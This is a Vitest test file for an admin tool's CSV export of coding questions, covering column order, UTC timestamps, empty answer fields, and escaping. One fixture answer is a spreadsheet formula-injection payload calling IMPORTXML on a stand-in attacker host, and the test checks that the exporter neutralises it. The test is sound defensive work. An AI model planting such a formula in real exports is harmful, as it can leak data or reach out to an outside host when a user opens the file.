// @vitest-environment node
import { csvTime, questionCsvHeader, questionCsvLine } from '@/features/admin/utils/question-csv';

const approved = {
  id: '13d91a5b-7c2e-4f00-8a11-0123456789ab',
  created_at: '2026-11-20T14:05:09.123+00:00',
  corporate_account_name: 'Summit Health System',
  submitter_name: 'Pat Rivera',
  submitter_email: 'pat@summit-health.test',
  coding_question_type: 'Hospital - Outpatient',
  title: 'Observation hours, again',
  content: 'Line one\nline "two"',
  status: 'approved' as const,
  expert_name: 'Erin Expert',
  answer: '=IMPORTXML("http://evil.example")',
  answered_at: '2026-11-21T09:00:00+00:00',
  approver_name: 'Avery Approver',
  approved_at: '2026-11-21T10:30:00+00:00',
  answer_hours: 20.4,
};

describe('the question CSV', () => {
  it('has the columns a partner report is built from, in order', () => {
    expect(questionCsvHeader()).toBe(
      'Reference,Created (UTC),Account,Submitter,Submitter email,Type,Title,Question,Status,Expert,Answer,Answered at (UTC),Approver,Approved at (UTC),Time to answer (hours),Question ID\r\n',
    );
  });

  it('writes an answered question: reference, UTC times, the status as the UI names it, the answer escaped', () => {
    expect(questionCsvLine(approved)).toBe(
      [
        'Q-13D91A5B',
        '2026-11-20 14:05:09',
        'Summit Health System',
        'Pat Rivera',
        'pat@summit-health.test',
        'Hospital - Outpatient',
        '"Observation hours, again"',
        '"Line one\nline ""two"""',
        'Approved',
        'Erin Expert',
        '"\'=IMPORTXML(""http://evil.example"")"',
        '2026-11-21 09:00:00',
        'Avery Approver',
        '2026-11-21 10:30:00',
        '20.4',
        '13d91a5b-7c2e-4f00-8a11-0123456789ab',
      ].join(',') + '\r\n',
    );
  });

  it('leaves the answer columns empty for an open question and names its status', () => {
    const line = questionCsvLine({
      ...approved,
      status: 'awaiting_approval',
      corporate_account_name: null,
      expert_name: null,
      answer: null,
      answered_at: null,
      approver_name: null,
      approved_at: null,
      answer_hours: null,
    });
    expect(line).toContain(',Awaiting approval,,,,,,,13d91a5b-');
    expect(line.startsWith('Q-13D91A5B,2026-11-20 14:05:09,,Pat Rivera,')).toBe(true);
  });

  it('writes times in UTC whatever the offset, and nothing for no time', () => {
    expect(csvTime('2026-03-01T01:30:00-05:00')).toBe('2026-03-01 06:30:00');
    expect(csvTime(null)).toBe('');
    expect(csvTime('not a time')).toBe('');
  });
});
